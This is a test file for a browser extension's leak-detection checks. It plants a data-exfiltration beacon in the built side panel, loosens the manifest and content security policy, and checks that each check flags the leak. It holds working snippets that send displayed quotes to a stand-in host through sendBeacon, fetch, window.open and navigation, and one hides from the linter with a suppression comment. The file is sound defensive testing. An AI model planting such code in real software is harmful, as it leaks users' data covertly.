import { copyFileSync, cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { bundleWall } from '../../scripts/walls/bundle.mjs'
import { manifestWall, policyWall } from '../../scripts/walls/manifest.mjs'
import { runWall } from '../../scripts/walls/run.mjs'
import { sourcesWall } from '../../scripts/walls/sources.mjs'
import { EXTENSION } from './stand'

const ROOT = path.resolve(import.meta.dirname, '../..')
const folders: string[] = []
afterAll(() => folders.forEach((folder) => rmSync(folder, { recursive: true, force: true })))

function fresh(): string {
  const folder = mkdtempSync(path.join(os.tmpdir(), 'leakproof-beacon-'))
  folders.push(folder)
  return folder
}

/** Tells an outside address each quote that the panel shows. */
const BEACON = ";new MutationObserver(()=>{const one=document.querySelector('.panel .quote');if(one)navigator.sendBeacon('https://beacon.invalid/?'+encodeURIComponent(one.textContent))}).observe(document,{subtree:true,childList:true});"

/** The built extension with the beacon in the panel; `opened`: its manifest and its policy let the beacon through, too. */
function planted(opened: boolean): string {
  const folder = fresh()
  cpSync(EXTENSION, folder, { recursive: true })
  const chunks = path.join(folder, 'chunks')
  const panel = readdirSync(chunks).find((name) => /^sidepanel-.*\.js$/.test(name)) as string
  writeFileSync(path.join(chunks, panel), readFileSync(path.join(chunks, panel), 'utf8') + BEACON)
  if (opened) {
    const manifest = JSON.parse(readFileSync(path.join(folder, 'manifest.json'), 'utf8')) as { content_security_policy: { extension_pages: string } }
    manifest.content_security_policy.extension_pages = manifest.content_security_policy.extension_pages.replace("connect-src 'self'", "connect-src 'self' https://beacon.invalid")
    writeFileSync(path.join(folder, 'manifest.json'), JSON.stringify({ ...manifest, host_permissions: ['https://beacon.invalid/*'] }))
  }
  return folder
}

describe('the walls of this build', () => {
  it('stand: manifest, policy, sources, bundle', () => {
    for (const wall of [manifestWall(EXTENSION), policyWall(EXTENSION), sourcesWall(), bundleWall(EXTENSION)]) expect(wall.holes, wall.name).toEqual([])
  })

  // All 200 reviews are `npm run walls`, which takes some seven minutes; here each kind of file comes once, and most tokens.
  it('stand while it works', async () => {
    const wall = await runWall(EXTENSION, { reviews: 10 })
    expect(wall.holes).toEqual([])
    expect(wall.remembered).toBe(true)
    for (const kind of ['service_worker background.js', 'worker assets/analysis.worker.js', 'worker assets/docx.worker.js', 'worker assets/pdf-text.worker.js']) expect([...wall.targets.keys()]).toContain(kind)
    expect([...wall.targets.keys()].some((kind) => kind.endsWith('sidepanel.html'))).toBe(true)
    expect([...wall.targets.keys()].some((kind) => kind.endsWith('reader.html'))).toBe(true)
  }, 240_000)
})

describe('a build with a beacon in it', () => {
  it('fails at the manifest, the policy and the bundle', () => {
    const folder = planted(true)
    expect(manifestWall(folder).holes).toEqual(['"host_permissions": ["https://beacon.invalid/*"]'])
    expect(policyWall(folder).holes).toEqual(['connect-src https://beacon.invalid'])
    expect(bundleWall(folder).holes.map((hole) => hole.replace(/^.*: (\S+) in .*$/s, '$1')).sort()).toEqual(['https://beacon.invalid/?', 'sendBeacon'])
  })

  it.each([
    ['names a way out', "export const tell = (quote: string) => navigator.sendBeacon('https://beacon.invalid', quote)"],
    ['takes it by another handle', "export const tell = (quote: string) => globalThis.fetch('https://beacon.invalid/?' + quote)"],
    ['opens a window', "export const tell = (quote: string) => window.open('https://beacon.invalid/?' + quote)"],
    ['leaves the page', "export const tell = (quote: string) => location.assign('https://beacon.invalid/?' + quote)"],
    ['tells the linter to look away', "// oxlint-disable-next-line no-restricted-properties\nexport const tell = (quote: string) => navigator.sendBeacon('https://beacon.invalid', quote)"],
  ])('fails in its source: %s', (_how, code) => {
    const folder = fresh()
    copyFileSync(path.join(ROOT, '.oxlintrc.json'), path.join(folder, '.oxlintrc.json'))
    mkdirSync(path.join(folder, 'entrypoints/sidepanel'), { recursive: true })
    writeFileSync(path.join(folder, 'entrypoints/sidepanel/beacon.ts'), code)
    expect(sourcesWall(folder).holes.join()).toContain('beacon.ts')
  })

  it('fails at work, when nothing stops it', async () => {
    const { holes } = await runWall(planted(true), { reviews: 2 })
    expect(holes.join('\n')).toMatch(/POST https:\/\/beacon\.invalid\//)
  }, 120_000)

  it('fails at work, when the policy stops it', async () => {
    const { holes } = await runWall(planted(false), { reviews: 2 })
    expect(holes.join('\n')).toMatch(/tried and refused: .*beacon\.invalid/)
  }, 120_000)
})
